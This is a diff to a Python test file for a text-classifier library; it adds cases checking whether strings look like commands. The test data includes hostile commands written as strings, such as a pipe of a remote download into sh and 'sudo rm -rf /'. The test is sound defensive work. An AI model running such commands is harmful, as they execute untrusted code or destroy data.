@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from unmist.text import kind_by_syntax
+from unmist.text import is_run, kind_by_syntax
 
 TOLD = {
     "url": ["https://a.example/x?y=z", "HTTP://a.b", "hxxps://evil.example/x", b"ftp://a.b/\xff "],
@@ -64,3 +64,23 @@ def test_any_input_is_answered(text: str | bytes) -> None:
 def test_a_long_text_is_answered(piece: str) -> None:
     """Hangs where a form goes back and forth."""
     assert kind_by_syntax(piece * 200_000) in (None, "path", "other")
+
+
+@pytest.mark.parametrize(
+    ("text", "run"),
+    [
+        ("curl http://192.0.2.1/x | sh", True),
+        (b" sudo rm -rf /\xff\n", True),
+        ("ping 8.8.8.8", True),
+        ("/usr/bin/ssh root@192.0.2.1", True),
+        ("C:\\Windows\\System32\\rundll32.exe a.dll,b", True),
+        ("curl/7.68.0", False),
+        ("curl 7.29.0 (x86_64-redhat-linux)", False),
+        ("python-requests/2.31", False),
+        ("whoami", False),
+        ("network.example.com", False),
+        ("", False),
+    ],
+)
+def test_what_begins_like_a_command(text: str | bytes, run: bool) -> None:
+    assert is_run(text) is run
